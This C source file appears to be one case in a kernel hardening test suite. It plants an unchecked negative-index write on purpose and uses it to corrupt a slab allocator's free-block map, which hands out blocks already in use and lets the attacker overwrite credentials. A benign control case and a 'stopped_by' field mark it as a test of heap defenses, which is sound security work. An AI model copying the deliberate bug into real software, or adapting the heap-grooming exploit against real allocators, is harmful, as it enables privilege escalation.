/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The heap's own map of free blocks: a write before the start of an object reaches it, and makes blocks free that are
 * in use. Messages of the attacker's are then put over credentials.
 */
#include "attacks.h"

#include <kernel/heap.h>

#define SIZE 496
#define FIRST_BLOCK 64
#define MAPS 24 /* kernel/mm/heap_slab.c: here or in the next word a slab has its map of free blocks */
#define USERS 7

struct user {
	uint64_t uid;
	uint8_t rest[SIZE - 8];
};

/* The mistake: nobody checks index, which is negative. */
static NOINLINE void set_slot(uint64_t *slots, long index, uint64_t value)
{
	attack_opaque(slots)[index] = value;
}

/* Nor here. */
static NOINLINE uint64_t get_slot(const uint64_t *slots, long index)
{
	return attack_opaque(slots)[index];
}

static NOINLINE uint64_t read_secret(const struct user *user)
{
	return attack_opaque(user)->uid ? 0 : attack_secret();
}

static struct user *log_in(uint64_t uid)
{
	struct user *user = heap_zalloc(sizeof(*user));

	if (user)
		user->uid = uid;
	return user;
}

static bool benign(const struct attack *attack)
{
	struct user *user = log_in(7);
	uint64_t *slots = heap_zalloc(SIZE);
	bool right;

	if (!user || !slots)
		return false;
	set_slot(slots, 1, 9);
	right = get_slot(slots, 1) == 9 && read_secret(user) == 0;
	heap_free(slots);
	heap_free(user);
	return right;
}

static void run(const struct attack *attack)
{
	struct user *users[USERS];
	uint64_t *slots, found = 0;
	long map;

	do {
		slots = heap_zalloc(SIZE);
		if (!slots)
			attack_failed(attack, "no memory");
	} while ((uintptr_t)slots % PAGE_SIZE != FIRST_BLOCK);
	for (int i = 0; i < USERS - 1; i++)
		users[i] = log_in(1000);
	/* One block is left, so the map is not zero. */
	map = (MAPS - FIRST_BLOCK) / 8;
	if (!get_slot(slots, map))
		map++;
	attack_primitive(attack);
	set_slot(slots, map, 0xfe);
	for (int i = 0; i < 2 * USERS; i++)
		if (!heap_zalloc(SIZE))
			break;
	for (int i = 0; i < USERS - 1 && !found; i++)
		found = users[i] ? read_secret(users[i]) : 0;
	attack_won(found);
}

ATTACK(heap_overlap, .family = "heap metadata", .primitive = RELATIVE_WRITE, .knowledge = BLIND, .stopped_by = "heap",
       .about = "blocks in use are marked free, and given again", .run = run, .benign = benign);
